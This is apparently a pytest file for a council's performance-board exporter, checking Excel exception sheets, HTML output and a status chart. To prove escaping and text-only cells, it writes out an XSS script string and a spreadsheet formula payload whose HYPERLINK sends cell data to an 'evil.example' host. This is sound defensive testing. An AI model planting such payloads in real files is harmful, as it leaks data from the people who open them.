"""The committee paper's writers and the RAGG chart, from a real database loaded with the
example register and actuals (2025-26 Q4: 3 Red, 3 Amber, 13 Green, 2 Grey, 1 missing). The
paper as the command builds it, on SQLite and PostgreSQL, is read in tests/test_paper.py."""

from __future__ import annotations

import csv
import struct
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot import services
from bot.chart import ragg_chart, text_colour
from bot.export import (
    board_html,
    board_workbook,
    exception_sheet_name,
    write_board,
)
from bot.paper import Paper, load_paper, simple_paper
from bot.periods import Period
from bot.ragg import Ragg
from bot.summary import SignOffState, Summary, tally
from storage.engine import make_engine
from storage.migrate import upgrade
from tests.conftest import ADMIN, EXAMPLES, Cli

NOW = datetime(2026, 5, 1, 9, 0, tzinfo=UTC)
TODAY = NOW.date()
Q4 = Period.parse("2025-26 Q4")
BOARD_DATE = date(2026, 4, 21)
REDS = ["SE1.P1", "DE2.3", "SC1.2", "TC2.2"]  # the project SE1.P1 first, in register order
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


@pytest.fixture
def paper(sqlite_url: str) -> Iterator[Paper]:
    engine = make_engine(sqlite_url)
    upgrade(engine)
    services.import_register(engine, EXAMPLES / "register.yaml", actor="tester", now=NOW)
    services.import_actuals(engine, EXAMPLES / "actuals.csv", actor=ADMIN, now=NOW, today=TODAY)
    council = services.council_info(engine)
    yield load_paper(engine, council, Q4, committee=None, today=TODAY)
    engine.dispose()


@pytest.fixture
def summary(paper: Paper) -> Summary:
    return paper.summary


def empty_summary() -> Summary:
    return Summary(
        council="Empty Council",
        quarter=Q4,
        board_date=BOARD_DATE,
        rows=[],
        overall=tally("ALL", "Empty Council", []),
        priorities=[],
    )


def with_row(paper: Paper, ref: str, **changes: Any) -> Paper:
    """The paper with one row changed, as a hand-made row."""
    summary = paper.summary
    rows = [replace(row, **changes) if row.measure.ref == ref else row for row in summary.rows]
    return replace(paper, summary=replace(summary, rows=rows))


# ---------------------------------------------------------------------------- workbook


def _sheet(path: Path, name: str) -> Worksheet:
    sheet = load_workbook(path)[name]
    assert isinstance(sheet, Worksheet)
    return sheet


def _exception(sheet: Worksheet) -> dict[str, object]:
    return {
        str(label.value): value.value
        for label, value in sheet.iter_rows(min_row=4, max_col=2)
        if label.value
    }


def test_one_exception_sheet_per_red_measure_laid_out_like_appendix_1(
    paper: Paper, tmp_path: Path
) -> None:
    actions = "Weekly Section 106 clinic with Legal.\nChase consultees at week 4."
    out = tmp_path / "board.xlsx"
    board_workbook(with_row(paper, "DE2.3", actions=actions), out)
    workbook = load_workbook(out)
    assert workbook.sheetnames[3:] == ["Actions", *(f"Exception {ref}" for ref in REDS)]
    sheet = workbook["Exception DE2.3"]
    assert isinstance(sheet, Worksheet)
    assert "DE2.3" in str(sheet["A1"].value)
    fields = _exception(sheet)
    assert list(fields) == [
        "Priority",
        "Aim",
        "Measure and Reference",
        "Committee",
        "Definition",
        "Baseline Data",
        "Benchmarking Information",
        "2025-26 Out turn",
        "2025-26 Target",
        "Performance Overview - Quarterly Update",
        "Actions to improve performance",
    ]
    assert fields["Priority"] == "DE Drive our Economy"
    assert str(fields["Aim"]).startswith("DE2 ")
    assert str(fields["Measure and Reference"]).startswith("DE2.3 Major planning applications")
    assert fields["Committee"] == "E&DS"
    assert fields["Baseline Data"] == "2024-25: 80%"
    assert fields["2025-26 Out turn"] == "64% (2025-26 Q4)"
    assert fields["2025-26 Target"] == "80% (2025-26 Q4)"
    assert fields["Performance Overview - Quarterly Update"] == (
        "Four of eleven decisions were late awaiting Section 106 agreements and statutory "
        "consultee replies."
    )
    assert fields["Actions to improve performance"] == actions
    for row in range(4, 15):
        assert sheet.cell(row=row, column=1).font.bold
        assert sheet.cell(row=row, column=2).alignment.wrap_text
    assert (sheet.column_dimensions["B"].width or 0) >= 60

    # Imported history's actions, in words (people by name).
    sc12 = workbook["Exception SC1.2"]
    assert isinstance(sc12, Worksheet)
    fields = _exception(sc12)
    assert str(fields["Performance Overview - Quarterly Update"]).startswith(
        "Above target and tolerance as 140 more tenants"
    )
    assert fields["Actions to improve performance"] == (
        "Weekly arrears surgeries at the housing office (owner: Amy Robinson, due 30 Sep 2026; "
        "on track)"
    )
    tc22 = workbook["Exception TC2.2"]
    assert isinstance(tc22, Worksheet)
    assert _exception(tc22)["2025-26 Out turn"] == "1 incident (2025-26 H2)"


def test_cover_counts_and_sign_off(paper: Paper, tmp_path: Path) -> None:
    signed = SignOffState(
        "hos.environment@example.gov.uk",
        "Helen Carter",
        6,
        datetime(2026, 4, 20, 14, 5, tzinfo=UTC),
    )
    out = tmp_path / "board.xlsx"
    board_workbook(replace(paper, summary=replace(paper.summary, signoffs=[signed])), out)
    sheet = _sheet(out, "Cover")
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header = rows.index(
        [
            "Priority",
            "Name",
            "Red",
            "Amber",
            "Green",
            "Grey",
            "Missing",
            "Total",
            "On target %",
            "Improving",
            "Declining",
            "No change",
        ]
    )
    by_code = {row[0]: row for row in rows[header + 1 :] if row[0]}
    overall = by_code["All"]
    assert overall[2:8] == [4, 3, 14, 2, 1, 24]  # with the projects SE1.P1 (Red), SC1.P1
    assert overall[8] == pytest.approx(0.83)  # 19 of 23 reported on target
    assert [by_code[code][7] for code in ("SE", "DE", "SC", "TC")] == [7, 5, 6, 6]
    assert by_code["SE"][2:7] == [1, 1, 4, 1, 0]
    heads = rows.index(["Head of Service", "Measures", "Sign-off", *[None] * 9])
    signoffs = {row[0]: row for row in rows[heads + 1 :] if row[0]}
    # People by name, never by e-mail (the register's names, also for those not signed off).
    assert signoffs["Helen Carter"][1:3] == [6, "Signed off 20 April 2026 14:05 UTC"]
    assert signoffs["David Okafor"][2] == "Not signed off"
    assert set(signoffs) == {"Helen Carter", "David Okafor", "Fiona Grant", "Martin Hughes"}
    assert not any("@" in str(cell) for row in rows for cell in row if cell)


# ---------------------------------------------------------------------------- HTML


@dataclass
class Node:
    tag: str
    attrs: dict[str, str]
    children: list[Node | str] = field(default_factory=list)

    def find_all(self, tag: str, **attrs: str) -> list[Node]:
        found = []
        for child in self.children:
            if isinstance(child, Node):
                if child.tag == tag and all(
                    value in child.attrs.get(name.rstrip("_"), "").split()
                    for name, value in attrs.items()
                ):
                    found.append(child)
                found.extend(child.find_all(tag, **attrs))
        return found

    @property
    def text(self) -> str:
        return "".join(c if isinstance(c, str) else c.text for c in self.children)


class TreeBuilder(HTMLParser):
    VOID: ClassVar[frozenset[str]] = frozenset({"meta", "img", "br", "link", "hr", "input", "col"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", {})
        self.stack = [self.root]
        self.doctype: str | None = None

    def handle_decl(self, decl: str) -> None:
        self.doctype = decl

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        node = Node(tag, {name: value or "" for name, value in attrs})
        self.stack[-1].children.append(node)
        if tag not in self.VOID:
            self.stack.append(node)

    def handle_endtag(self, tag: str) -> None:
        assert self.stack[-1].tag == tag, f"</{tag}> closes <{self.stack[-1].tag}>"
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        self.stack[-1].children.append(data)


def parse(page: str) -> Node:
    builder = TreeBuilder()
    builder.feed(page)
    builder.close()
    assert builder.stack == [builder.root], "unclosed elements"
    assert builder.doctype == "DOCTYPE html"
    return builder.root


def test_html_escapes_every_text(paper: Paper) -> None:
    nasty = 'Costs < budget & > forecast <script>alert("x")</script>'
    hand_made = with_row(paper, "DE2.3", commentary=nasty, actions="Fix <b>this</b> & that")
    hand_made = replace(
        hand_made, summary=replace(hand_made.summary, council="Smith & <Jones> Council")
    )
    page = board_html(hand_made, chart=False)
    assert "<script>" not in page and "<b>this" not in page and "<Jones>" not in page
    assert "&lt;script&gt;" in page and "Smith &amp; &lt;Jones&gt; Council" in page
    root = parse(page)
    assert root.find_all("script") == [] and root.find_all("b") == []
    [section] = [s for s in root.find_all("section") if s.attrs.get("id") == "exception-DE2.3"]
    assert nasty in section.text
    assert "Fix <b>this</b> & that" in section.text
    [title] = root.find_all("head")[0].find_all("title")
    assert title.text.startswith("Smith & <Jones> Council")
    assert root.find_all("img") == []


def test_empty_summary_still_exports(tmp_path: Path) -> None:
    empty = simple_paper(empty_summary(), TODAY)
    out = tmp_path / "empty.xlsx"
    board_workbook(empty, out)
    workbook = load_workbook(out)
    assert workbook.sheetnames == ["Cover", "Measures", "Data", "Actions"]
    sheet = workbook["Measures"]
    assert isinstance(sheet, Worksheet)
    assert sheet.max_row == 2
    root = parse(board_html(empty))
    assert root.find_all("section", class_="exception") == []
    assert "There are no measures in the register for this paper." in root.text


# ---------------------------------------------------------------------------- chart


def _png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == PNG_SIGNATURE
    length, kind = struct.unpack(">I4s", data[8:16])
    assert (length, kind) == (13, b"IHDR")
    width, height = struct.unpack(">II", data[16:24])
    return width, height


def test_chart_is_a_1200_by_600_png_and_deterministic(summary: Summary) -> None:
    data = ragg_chart(summary)
    assert _png_size(data) == (1200, 600)
    assert ragg_chart(summary) == data
    assert b"tIME" not in data  # no timestamp chunk
    assert b"Software" not in data


def test_chart_of_no_measures_still_renders() -> None:
    data = ragg_chart(empty_summary())
    assert _png_size(data) == (1200, 600)
    dollars = replace(empty_summary(), council="$ave £ Council")  # no mathtext surprises
    assert _png_size(ragg_chart(dollars)) == (1200, 600)


def test_text_colour_is_chosen_for_contrast() -> None:
    assert text_colour("D4351C") == "FFFFFF"
    assert text_colour("00703C") == "FFFFFF"
    assert text_colour("F47738") == "0B0C0C"
    assert text_colour("B1B4B6") == "0B0C0C"
    assert text_colour(None) == "0B0C0C"


# ---------------------------------------------------------------------------- by file name


def test_write_board_chooses_the_format_by_suffix(paper: Paper, tmp_path: Path) -> None:
    write_board(paper, tmp_path / "board.xlsx")
    assert (tmp_path / "board.xlsx").read_bytes()[:2] == b"PK"
    write_board(paper, tmp_path / "BOARD.XLSX")
    assert load_workbook(tmp_path / "BOARD.XLSX").sheetnames[0] == "Cover"
    write_board(paper, tmp_path / "board.html")
    assert (tmp_path / "board.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    for name in ("board.pdf", "board", "board.xls", "board.csv"):
        with pytest.raises(ValueError, match=r"must end in \.xlsx .* or \.html"):
            write_board(paper, tmp_path / name)
        assert not (tmp_path / name).exists()


def test_exception_sheet_names_are_legal_excel_names() -> None:
    assert exception_sheet_name("DE2.3") == "Exception DE2.3"
    name = exception_sheet_name("A/B:C*D?E[F]G\\H-and-a-very-long-reference")
    assert len(name) <= 31
    assert not set(name) & set("[]:*?/\\")
    assert exception_sheet_name("X1", ["Exception x1"]) == "Exception X1 (2)"
    taken = ["Exception " + "R" * 21]
    again = exception_sheet_name("R" * 30, taken)
    assert len(again) <= 31 and again.lower() not in {t.lower() for t in taken}


def test_ragg_words_are_the_framework_words() -> None:
    assert [status.word for status in Ragg] == ["Red", "Amber", "Green", "Grey", "No data"]


# ---------------------------------------------------------------------------- text stays text

FORMULA = '=HYPERLINK("https://evil.example/steal?d="&A1,"Board papers")'


def _formula_register(folder: Path) -> Path:
    """The example register with register text that a spreadsheet would run as formulas."""
    data = yaml.safe_load((EXAMPLES / "register.yaml").read_text(encoding="utf-8"))
    data["council"] = "@SUM(1+1) District Council"
    for priority in data["priorities"]:
        for aim in priority["aims"]:
            for measure in aim["measures"]:
                if measure["ref"] == "DE2.3":
                    measure["title"] = FORMULA
                    measure["definition"] = "-10+20 decisions in time"
                    measure["benchmarking"] = "+44 councils compared"
    path = folder / "register.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path


def _formula_actuals(folder: Path) -> Path:
    """The example actuals, with DE2.3's Red 2025-26 Q4 commentary a formula."""
    with (EXAMPLES / "actuals.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        if (row["ref"], row["period"]) == ("DE2.3", "2025-26 Q4"):
            row["commentary"] = FORMULA
        if (row["ref"], row["period"]) == ("SC1.2", "2025-26 Q4"):
            row["commentary"] = "-1+1 minus first"
    path = folder / "actuals.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_export_board_writes_every_text_as_text_never_a_formula(cli: Cli, tmp_path: Path) -> None:
    """Issue 9 item 6: commentary (here via `import actuals`) and register text starting with
    = + - @ or a tab are string cells holding exactly what was written; counts stay numbers."""
    for args in (
        ("import", "register", str(_formula_register(tmp_path))),
        (
            "import",
            "actuals",
            str(_formula_actuals(tmp_path)),
            "--by",
            ADMIN,
            "--today",
            "2026-05-01",
        ),
    ):
        done = cli(*args)
        assert done.code == 0, done.err
    book = tmp_path / "board.xlsx"
    done = cli(
        "export", "board", "--period", "2025-26 Q4", "--out", str(book), "--today", "2026-05-01"
    )
    assert done.code == 0, done.err

    workbook = load_workbook(book)
    texts = 0
    for sheet in workbook.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    texts += 1
    assert texts > 300

    exception = _exception(_sheet(book, "Exception DE2.3"))
    assert exception["Performance Overview - Quarterly Update"] == FORMULA
    assert exception["Measure and Reference"] == f"DE2.3 {FORMULA}"
    assert exception["Definition"] == "-10+20 decisions in time"
    assert exception["Benchmarking Information"] == "+44 councils compared"
    sc12 = _exception(_sheet(book, "Exception SC1.2"))
    assert sc12["Performance Overview - Quarterly Update"] == "-1+1 minus first"

    board = _sheet(book, "Measures")
    header = [cell.value for cell in board[2]]
    [de23] = [cells for cells in board.iter_rows(min_row=3) if cells[0].value == "DE2.3"]
    measure = de23[header.index("Measure")]
    assert (measure.value, measure.data_type, measure.quotePrefix) == (FORMULA, "s", True)
    assert str(board["A1"].value).startswith("@SUM(1+1) District Council — ")
    assert _sheet(book, "Cover")["A1"].value == "@SUM(1+1) District Council"

    summary_sheet = _sheet(book, "Cover")
    overall = next(row for row in summary_sheet.iter_rows(min_row=5) if row[0].value == "All")
    counts = [cell.value for cell in overall[2:8]]
    assert counts == [4, 3, 14, 2, 1, 24]
    assert all(cell.data_type == "n" for cell in overall[2:8])
